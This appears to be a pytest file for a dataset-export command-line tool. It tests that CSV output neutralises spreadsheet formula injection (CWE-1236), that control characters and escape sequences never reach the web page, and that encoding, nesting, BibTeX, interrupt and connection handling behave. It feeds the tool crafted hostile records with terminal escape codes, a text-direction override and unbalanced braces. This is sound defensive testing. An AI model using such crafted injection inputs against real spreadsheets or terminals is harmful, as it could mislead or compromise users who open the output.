def test_no_csv_writer_leaves_a_cell_a_spreadsheet_would_run(tmp_path: Path, args: list[str]) -> None:
    """No CSV writer (export, a listing, a document, search) leaves a cell a spreadsheet would
    run as a formula (= + - @ tab CR: CWE-1236), nor a control character."""
    data = _jsonl(tmp_path / "mine.jsonl", _hostile_record(**FORMULAS))
    result = subprocess.run(
        [EXE, *args, "--data", str(data)], capture_output=True, text=True, timeout=120, env=_env(), encoding="utf-8"
    )
    assert result.returncode == 0, result.stderr
    cells = [c for row in _cells(result.stdout) for c in row]
    assert any(c.startswith("'=") for c in cells), "the hostile record is not in the output"
    for c in cells:
        assert not c.startswith(DANGEROUS) or _is_number(c), c
        assert "\x1b" not in c and "\x07" not in c, c


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("MIGDIALOGUE_DATA", "MIGDIALOGUE_DEBUG")}
    env.update({"NO_COLOR": "1", "COLUMNS": "100"})
    return env


def test_the_csv_round_trip_gives_the_same_records(tmp_path: Path) -> None:
    """What the CSV writer neutralised and escaped, the CSV reader gives back: formulas, quotes,
    control characters, a literal backslash escape, the bundled examples (the whole export)."""
    bell = _hostile_record(
        id="my-bell",
        title="a bell \x07, an escape \x1b[31mred\x1b[0m, a carriage return\r, an override \u202e",
        summary="\\x07 is text, not a bell; so is C:\\xampp\\u202e; and \\\x07",
    )
    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(**FORMULAS), bell)
    before = out_json("export", "--format", "json", "--data", str(mine))
    exported = tmp_path / "examples.csv"
    result = subprocess.run(
        [EXE, "export", "--format", "csv", "--output", str(exported), "--data", str(mine)],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(),
    )
    assert result.returncode == 0, result.stderr
    raw = exported.read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw and b"\r" not in raw and "\u202e".encode() not in raw
    after = out_json("export", "--format", "json", "--data", str(exported))
    assert after["examples"] == before["examples"]
    back = {e["id"]: e for e in after["examples"]}["my-bell"]
    assert (back["title"], back["summary"]) == (bell["title"], bell["summary"])


# -- issue 26: 7. an encoding a format cannot write ----------------------------------------------------


@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
def test_yaml_on_a_narrow_stdout_is_the_same_data_with_escapes(tmp_path: Path, encoding: str) -> None:
    """YAML on an ASCII or cp1252 stdout is the same data, written with escapes, never a '?'."""
    import yaml

    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(title="\u5de5\u4f1a \U0001f91d Stockholms Byggm\u00e4stare"))
    wide = run("export", "--format", "yaml", "--data", str(mine))
    narrow = run("export", "--format", "yaml", "--data", str(mine), env={"PYTHONIOENCODING": encoding})
    assert narrow.returncode == 0, narrow.stderr
    assert narrow.stdout.count("?") == wide.stdout.count("?") and narrow.stdout.isascii()
    assert yaml.safe_load(narrow.stdout) == yaml.safe_load(wide.stdout)


@pytest.mark.parametrize(
    ("args", "encoding", "char"),
    [
        (["export", "--format", "csv", "--data", "MINE"], "cp1252", "U+5DE5"),
        (["list", "--format", "csv", "--data", "MINE"], "cp1252", "U+5DE5"),
        (["cite", JORDAN_CASE, "--style", "bibtex"], "ascii", "U+"),
        (["cite", JORDAN_CASE, "--style", "ris"], "ascii", "U+"),
    ],
)
def test_csv_bibtex_or_ris_on_a_stdout_that_cannot_take_it_is_an_error(
    tmp_path: Path, args: list[str], encoding: str, char: str
) -> None:
    """CSV, BibTeX and RIS (no escapes of their own) on a stdout that cannot write a character:
    exit 4 and one line naming it, nothing written."""
    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(title="\u5de5\u4f1a \U0001f91d"))
    result = subprocess.run(
        [EXE, *(str(mine) if a == "MINE" else a for a in args)],
        capture_output=True,
        timeout=120,
        env={**_env(), "PYTHONIOENCODING": encoding},
    )
    assert result.returncode == 4 and result.stdout == b"", result.stderr
    expected = f"migdialogue: error: standard output's encoding ({encoding}) cannot write {char}"
    assert result.stderr.startswith(expected.encode()) and result.stderr.count(b"\n") == 1, result.stderr


def test_the_page_on_a_narrow_stdout_is_written_in_the_utf_8_it_declares() -> None:
    """The web page on an ASCII stdout is written in the UTF-8 it declares, the same bytes."""
    wide = subprocess.run([EXE, "export", "--format", "html"], capture_output=True, timeout=120, env=_env())
    narrow = subprocess.run(
        [EXE, "export", "--format", "html"],
        capture_output=True,
        timeout=120,
        env={**_env(), "PYTHONIOENCODING": "ascii"},
    )
    assert narrow.returncode == 0 and narrow.stdout == wide.stdout
    assert b'<meta charset="utf-8">' in narrow.stdout and "Byggm\u00e4stare".encode() in narrow.stdout


# -- issue 26: 4. the page's related examples, computed once for all -----------------------------------


def _related_on_page(page: str) -> dict[str, list[str]]:
    """Each example's related examples, as the page links them (their anchors' ids)."""
    import re

    found = {}
    for article in re.findall(r'<article class="record example".*?</article>', page, flags=re.S):
        ident = re.search(r'id="ex-([^"]+)"', article)
        block = re.search(r"<h4[^>]*>Related examples</h4><ul>(.*?)</ul>", article)
        assert ident is not None
        found[ident[1]] = re.findall(r'href="#ex-([^"]+)"', block[1]) if block else []
    return found


def test_the_page_links_the_examples_related_gives(tmp_path: Path) -> None:
    """The page's three related examples of each are `related -n 3`'s, for the brief's data and for
    400 examples that share every value with a hundred others or more (the page used to ask the
    store once per example: quadratic, 4,000 examples took a minute)."""
    many = tmp_path / "many.jsonl"
    import random

    rng = random.Random(26)
    records = []
    for i in range(400):
        records.append(
            _hostile_record(
                id=f"gen-{i:03d}",
                title=f"Generated {i}",
                countries=rng.sample(["Jordan", "Italy", "Qatar", "Spain"], rng.randint(0, 2)),
                region=[rng.choice(["arab-states", "europe-central-asia", "africa"])],
                level=rng.choice(["national", "sectoral", "local"]),
                theme=rng.choice(["policy-formulation", "collective-bargaining"]),
                sectors=rng.sample(["construction", "agriculture", "domestic work"], rng.randint(0, 2)),
                challenges=rng.sample(["gender", "informality", "discrimination"], rng.randint(0, 2)),
            )
        )
    _jsonl(many, *records)
    for data in ([], ["--data", str(many)]):
        page = tmp_path / "page.html"
        page.unlink(missing_ok=True)
        result = subprocess.run(
            [EXE, "export", "--format", "html", "--output", str(page), *data], capture_output=True, timeout=300
        )
        assert result.returncode == 0, result.stderr
        shown = _related_on_page(page.read_text(encoding="utf-8"))
        sample = sorted(shown)[:: max(1, len(shown) // 40)]  # every example would take a process each
        for ident in sample:
            expected = [r["id"] for r in out_json("related", ident, "-n", "3", "--json", *data)]
            assert shown[ident] == expected, ident


def test_blocks_beyond_the_bound_find_the_same_within_each(monkeypatch: pytest.MonkeyPatch) -> None:
    """Beyond RELATED_BLOCK examples they are compared block by block (linear time): each block's
    answer is the one the block alone gives."""
    from migdialogue import dataset, query

    examples = dataset.load().examples
    whole = query.related_among(examples)
    monkeypatch.setattr(query, "RELATED_BLOCK", 20)
    blocks = query.related_among(examples)
    ordered = sorted(examples, key=lambda e: e.key)
    for start in range(0, len(ordered), 20):
        alone = query.related_among(ordered[start : start + 20])
        assert all(blocks[e.id] == alone[e.id] for e in ordered[start : start + 20])
    assert blocks != whole


# -- issue 26: 9. NULs and other control characters never reach the page -------------------------------


def test_a_nul_from_a_csv_cell_never_reaches_the_page(tmp_path: Path) -> None:
    """NUL and other control characters of a user's CSV cell never reach the web page, in its
    HTML or its script's data (replacement characters instead)."""
    mine = tmp_path / "mine.csv"
    row = _hostile_record(title="nul\x00here and a bell\x07", summary="del\x7f and c1\x85", sectors=["sec\x00tor"])
    header = list(row)
    import csv

    with open(mine, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(header)
        writer.writerow([json.dumps(v) if isinstance(v, list) else str(v) for v in row.values()])
    assert out_json("show", "my-case", "--json", "--data", str(mine))["record"]["title"] == "nul\x00here and a bell\x07"
    page = tmp_path / "page.html"
    result = subprocess.run(
        [EXE, "export", "--format", "html", "--output", str(page), "--data", str(mine)],
        capture_output=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    raw = page.read_bytes()
    assert not any(b in raw for b in (b"\x00", b"\x07", b"\x7f", "\x85".encode())), "a control character on the page"
    assert "nul\ufffdhere and a bell\ufffd".encode() in raw
    from migdialogue.htmlpage import unpacked

    from .test_html_export import Parsed

    parsed = Parsed()
    parsed.feed(raw.decode("utf-8"))
    data = json.dumps(unpacked(parsed.json_text), ensure_ascii=False)  # what the page's script reads
    assert "sec\ufffdtor" in data  # a facet value the script shows
    assert not any(c in data for c in ("\\u0000", "\\u0007", "\x7f", "\x85")), "a control character in the data"


# -- issue 26: 8. deep nesting in JSON, JSON Lines and CSV is a data error with its line ---------------


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize("depth", [100, 100_000])  # past MAX_DEPTH; past Python's own recursion limit
@pytest.mark.parametrize("kind", ["jsonl", "json", "csv"])
def test_deep_nesting_is_a_data_error_with_its_line(tmp_path: Path, kind: str, depth: int) -> None:
    """Lists nested deeper than 64 levels in JSON, JSON Lines or CSV are a data error with the
    file and line, never a recursion error."""
    good = json.dumps(_hostile_record(id="fine"))
    deep = json.dumps(_hostile_record()).replace('"actors": []', f'"actors": {_nested(depth)}')
    path = tmp_path / f"deep.{kind}"
    if kind == "jsonl":
        path.write_text(f"{good}\n{deep}\n", encoding="utf-8")
        line = 2
    elif kind == "json":
        path.write_text('{"examples": [\n' + good + ",\n" + deep + "\n]}\n", encoding="utf-8")
        line = 3
    else:
        if depth > 50_000:
            depth = 50_000  # Python's csv module refuses a cell over 131,072 characters
        import csv

        with open(path, "w", encoding="utf-8", newline="") as out:
            writer = csv.writer(out)
            writer.writerow(list(_hostile_record()))
            for ident, actors in (("fine", "[]"), ("my-case", _nested(depth))):
                cells = {k: json.dumps(v) if isinstance(v, list) else str(v) for k, v in _hostile_record().items()}
                writer.writerow({**cells, "id": ident, "actors": actors}.values())
        line = 3
    for args in (["validate", str(path)], ["list", "--data", str(path)]):
        result = run(*args)
        assert result.returncode == 3, result.stderr
        assert "Traceback" not in result.stderr and "internal error" not in result.stderr
        said = result.stdout if args[0] == "validate" else result.stderr
        assert f"deep.{kind}:{line}: " in said and "nested more than 64 levels deep" in said, said


# -- issue 26: 6. cite: a footnote the user's dataset replaced says so in the citation itself ----------

HOSTILE_FOOTNOTE = "Our own {unbalanced} } note { with $x^2$ math, 100% & a_b #1 \\emph{x} ~tilde"


@pytest.fixture
def replaced_44(tmp_path: Path) -> Path:
    path = tmp_path / "sources.json"
    path.write_text(json.dumps({"sources": [{"number": 44, "citation": HOSTILE_FOOTNOTE}]}), encoding="utf-8")
    return path


@pytest.mark.parametrize("style", ["text", "bibtex", "ris", "csl-json"])
def test_a_replaced_footnote_is_marked_in_the_citation(replaced_44: Path, style: str) -> None:
    """A footnote the user's dataset replaces is marked as theirs once, in its place, in every
    citation style."""
    result = run("cite", JORDAN_CASE, "--style", style, "--data", str(replaced_44))
    assert result.returncode == 0, result.stderr
    marker = (
        "(your own dataset's text, not the brief's footnote)"
        if style == "text"
        else "(from your own dataset, which replaces the brief's footnote)"
    )
    text = json.loads(result.stdout)[0]["note"] if style == "csl-json" else " ".join(result.stdout.split())
    assert text.count(marker) == 1, text
    assert text.index(marker) > text.index("[44]") and text.index(marker) < text.index("[45]")
    unreplaced = run("cite", JORDAN_CASE, "--style", style)
    assert marker not in unreplaced.stdout


# -- issue 26: 9. BibTeX and Markdown escaped for what BibTeX and pandoc read as syntax ----------------


def _bibtex_balanced(entry: str) -> bool:
    """Braces as BibTeX counts them (a backslash does not hide one): never below zero, zero at the end."""
    depth = 0
    for ch in entry:
        depth += {"{": 1, "}": -1}.get(ch, 0)
        if depth < 0:
            return False
    return depth == 0


def test_a_users_footnote_keeps_the_bibtex_entry_whole(replaced_44: Path, tmp_path: Path) -> None:
    """A user's footnote with unbalanced braces and TeX's special characters keeps the BibTeX
    entry balanced, and pandoc reads every character back."""
    from . import pandoc

    result = run("cite", JORDAN_CASE, "--style", "bibtex", "--data", str(replaced_44))
    assert result.returncode == 0, result.stderr
    assert _bibtex_balanced(result.stdout), result.stdout
    bib = tmp_path / "cite.bib"
    bib.write_text(result.stdout, encoding="utf-8")
    (item,) = json.loads(pandoc.run(pandoc.pandoc(), "-f", "bibtex", "-t", "csljson", str(bib)))
    note = item["note"].replace("\u2019", "'")
    # every character as the user wrote it, but the two braces that pair with none (pandoc drops
    # \textbraceleft, which LaTeX prints)
    assert "Our own {unbalanced}  note  with $x^2$ math, 100% & a_b #1 \\emph{x} ~tilde" in note, note


def test_markdown_shows_what_pandoc_would_read_as_math_or_citations(tmp_path: Path) -> None:
    """Markdown escapes what pandoc would read as math, sub- or superscripts, attributes,
    citations or a list: pandoc shows the text as written."""
    from . import pandoc

    summary = "Costs $5 and $6; x~y~ and a^b^; {.cls} and @smith2020; &amp; stays"
    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(summary=summary, title="1. Not a list"))
    result = run("show", "my-case", "--format", "markdown", "--data", str(mine))
    assert result.returncode == 0, result.stderr
    for reader in ("markdown", "gfm"):
        plain = pandoc.run(pandoc.pandoc(), "-f", reader, "-t", "plain", "--wrap=none", stdin=result.stdout)
        assert summary in plain, plain
        assert "1. Not a list" in plain


# -- issue 26: 9. prose width clamped ------------------------------------------------------------------


def test_a_huge_columns_is_taken_as_a_thousand_on_a_terminal() -> None:
    """COLUMNS=99999 on a terminal that reports no size: Rich laid the brief out in the square of
    the width (minutes); the window is now at most 1,000 columns."""
    from .terminal import run_in_pty

    code, out = run_in_pty(["brief", "Jordan"], 0, env={"COLUMNS": "99999"})
    assert code == 0 and "Briefing note: Jordan" in out
    assert max(len(line) for line in out.splitlines()) <= 1000


# -- issue 26: Ctrl-C while the program starts ---------------------------------------------------------

_INTERRUPTED_AT = """
import os, signal, sys
signal.signal(signal.SIGINT, signal.SIG_IGN if sys.argv[2] == "ignored" else signal.default_int_handler)
AT = sys.argv[1]


class Interrupt:  # Ctrl-C at the moment this module is imported
    def find_spec(self, name, path=None, target=None):
        if name == AT:
            os.kill(os.getpid(), signal.SIGINT)
        return None


sys.meta_path.insert(0, Interrupt())
sys.argv = ["migdialogue", "country", "Jordan", "--json"]
from migdialogue.cli import main

main()
"""


@pytest.mark.parametrize(
    "module",
    [
        "typer",  # the CLI's modules loading
        "migdialogue.cli.commands",
        "migdialogue.query",  # a command running (imported when it is run)
    ],
)
def test_ctrl_c_while_starting_is_exit_130_without_a_traceback(module: str) -> None:
    """Ctrl-C while Typer, the commands or a command's module load ends with exit 130 and no
    traceback."""
    result = subprocess.run(
        [sys.executable, "-c", _INTERRUPTED_AT, module, "terminal"], capture_output=True, timeout=60, env=_env()
    )
    assert result.returncode == 130 and result.stdout == b"", result.stderr.decode()
    assert result.stderr.strip() == b"", result.stderr.decode()  # a new line at most: never a traceback


def test_ctrl_c_ignored_by_a_background_job_is_still_ignored() -> None:
    """A process started with SIGINT ignored (a background job) keeps ignoring it and answers."""
    result = subprocess.run(
        [sys.executable, "-c", _INTERRUPTED_AT, "typer", "ignored"], capture_output=True, timeout=60, env=_env()
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["country"]["name"] == "Jordan"


# -- issue 20: the shipped store opened once per process -----------------------------------------------


def test_a_caller_closing_its_datasets_connection_leaves_later_loads_working(monkeypatch: pytest.MonkeyPatch) -> None:
    """The shipped store is opened once per process and every load gets a Dataset over it
    (dataset._load_bundled_compiled): a library user who closes the connection of the Dataset they were
    given (``ds.store.con.close()``, theirs to release) must not break every later load in the process,
    nor the next in-process command with a traceback."""
    from migdialogue import dataset

    from .conftest import cli

    # this test's own opening of the store: the connection it closes is not the one the other tests share
    monkeypatch.setattr(dataset, "_BUNDLED", {})
    dataset.load().store.con.close()
    again = dataset.load()
    assert len(again.examples) == again.store.example_count() > 0
    run = cli("list", "--json")
    assert run.code == 0, run.err
    assert len(run.json()) == again.store.example_count()
